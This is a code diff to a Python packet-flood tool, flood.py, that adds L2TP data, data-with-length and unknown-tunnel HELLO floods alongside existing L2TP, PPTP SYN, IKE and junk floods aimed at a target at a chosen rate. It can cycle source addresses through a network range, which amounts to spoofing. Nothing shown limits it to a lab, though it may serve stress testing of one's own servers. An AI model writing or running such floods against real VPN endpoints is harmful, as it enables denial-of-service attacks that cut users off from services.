@@ -3,7 +3,9 @@
 
 usage: flood.py KIND TARGET SOURCES PER_SECOND SECONDS
 
-KIND: sccrq (L2TP), syn (PPTP), ike (IKE_SA_INIT), junk (random bytes to the ports of all of them).
+KIND: sccrq (L2TP), data (L2TP, of tunnel 0), data-length (the same, with its length), unknown (a
+HELLO of a tunnel that nobody has), syn (PPTP), ike (IKE_SA_INIT), junk (random bytes to the ports
+of all of them).
 SOURCES: a net, in turn of whose addresses a packet comes; of one address: its own. Prints how many
 packets were sent in how many seconds, as JSON.
 """
@@ -55,6 +57,21 @@ def sccrq(_source: bytes, _target: bytes) -> tuple[int, bytes]:
     return udp(L2TP_PORT, struct.pack("!HHHHHH", 0xC802, 12 + len(body), 0, 0, 0, 0) + body)
 
 
+def data(_source: bytes, _target: bytes) -> tuple[int, bytes]:
+    """RFC 2661 3.1: no control message, without the optional fields."""
+    return udp(L2TP_PORT, struct.pack("!HHH", 0x0002, 0, 0) + random.randbytes(12))
+
+
+def data_length(_source: bytes, _target: bytes) -> tuple[int, bytes]:
+    return udp(L2TP_PORT, struct.pack("!HHHH", 0x4002, 20, 0, 0) + random.randbytes(12))
+
+
+def unknown(_source: bytes, _target: bytes) -> tuple[int, bytes]:
+    hello = avp(0, struct.pack("!H", 6))
+    return udp(L2TP_PORT, struct.pack("!HHHHHH", 0xC802, 12 + len(hello),
+                                      random.randrange(1, 65536), 0, 1, 1) + hello)
+
+
 def syn(source: bytes, target: bytes) -> tuple[int, bytes]:
     fields = (random.randrange(1024, 65536), PPTP_PORT, random.getrandbits(32), 0, 5 << 4, 2, 65535)
     head = struct.pack("!HHIIBBHHH", *fields, 0, 0)
@@ -75,7 +92,8 @@ def junk(_source: bytes, _target: bytes) -> tuple[int, bytes]:
 
 
 KINDS: dict[str, Callable[[bytes, bytes], tuple[int, bytes]]] = {
-    "sccrq": sccrq, "syn": syn, "ike": ike, "junk": junk}
+    "sccrq": sccrq, "data": data, "data-length": data_length, "unknown": unknown, "syn": syn,
+    "ike": ike, "junk": junk}
 
 
 def flood(kind: str, target: str, sources: str, per_second: float, seconds: float) -> dict:
